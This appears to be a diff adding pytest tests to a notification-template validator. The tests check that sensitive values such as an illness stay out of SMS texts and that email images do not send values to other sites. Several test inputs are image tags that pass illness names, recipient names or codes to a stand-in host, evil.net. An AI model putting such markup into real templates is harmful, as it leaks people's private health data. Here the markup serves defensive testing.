@@ -244,3 +244,47 @@ def test_whatever_somebody_types_is_answered_with_findings(subject, html, sms):
 @pytest.mark.parametrize("source", ["<textarea><![x</textarea>{{ text }}", "<p><![x]]></p>", "<!x <![", "<?x"])
 def test_markup_that_no_parser_knows_a_way_through_is_judged_as_far_as_it_goes(source):
     assert isinstance(validate(Visit, "email", "", {"email.subject.txt": "A visit", "email.html": source}), list)
+
+
+class Illness(NotificationType):
+    key = "tests.validated_illness"
+    channels = ("sms", "email")
+    variables = {
+        "code": Variable(example="048217", about="the six digits", required=True),
+        "names": Variable(example=["Asha"]),
+        "illnesses": Variable(example=["HIV"], sensitive=True),
+    }
+
+
+@pytest.mark.parametrize(
+    "sms",
+    [
+        "{{ code }}{{ illnesses.0 }}",
+        "{{ code }}{{ names|default:illnesses|join:',' }}",
+        "{{ code }}{% for x in names|default:illnesses %}{{ x }}{% endfor %}",
+        "{{ code }}{% for x in names|default:illnesses %}{% for y in names %}{{ x|upper }}{% endfor %}{% endfor %}",
+    ],
+)
+def test_a_sensitive_value_is_not_said_by_sms_by_whatever_way_it_comes(sms):
+    assert "notify.T090" in [each.code for each in validate(Illness, "sms", "", {"sms.txt": sms})]
+
+
+def test_a_text_without_what_it_is_there_for_is_not_published():
+    (found,) = of("notify.T008", validate(Illness, "sms", "", {"sms.txt": "{% if code %}No code today.{% endif %}"}))
+    assert (found.level, found.message) == ("error", "Readers need {{ code }}, the six digits: write it somewhere.")
+    assert of("notify.T008", validate(Illness, "sms", "", {"sms.txt": "{{ code }}"})) == []
+
+
+@pytest.mark.parametrize(
+    ("picture", "refused"),
+    [
+        ('<img alt="" src="https://evil.net/{{ illnesses.0 }}.png">', True),
+        ('<img alt="" src="https://evil.net/x.png?who={{ recipient_name }}">', True),
+        ('<td background="https://evil.net/{{ code }}">', True),
+        ('<img alt="" src="https://evil.net/x.png">', False),
+        ('<img alt="" src="{{ site_url }}/x.png?v={{ code }}">', False),
+    ],
+)
+def test_no_picture_of_another_site_is_told_a_value(picture, refused):
+    parts = {"email.subject.txt": "A visit", "email.html": f"<p>{{{{ code }}}}</p>{picture}"}
+    assert bool(of("notify.T045", validate(Illness, "email", "", parts))) is refused
